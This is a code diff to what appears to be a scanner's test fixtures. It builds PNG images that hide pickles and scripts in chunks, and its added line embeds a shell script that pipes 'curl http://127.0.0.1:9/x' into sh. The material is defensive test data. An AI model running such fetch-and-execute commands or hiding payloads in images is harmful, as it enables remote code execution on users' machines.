@@ -293,6 +293,7 @@ export const HIDING_PLACES: readonly HidingPlace[] = [
     }),
   }),
   ...rows('unscannable', 'a.png', {
+    'rows that are no stream': png([], latin('#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n')),
     'a pickle in a chunk': png([chunk('evIl', PICKLE)]),
     'a script as text': png([chunk('tEXt', concat([latin('Comment\0'), SCRIPT]))]),
     'a pickle as packed text': png([chunk('zTXt', concat([latin('Comment\0\0'), deflateSync(PICKLE)]))]),
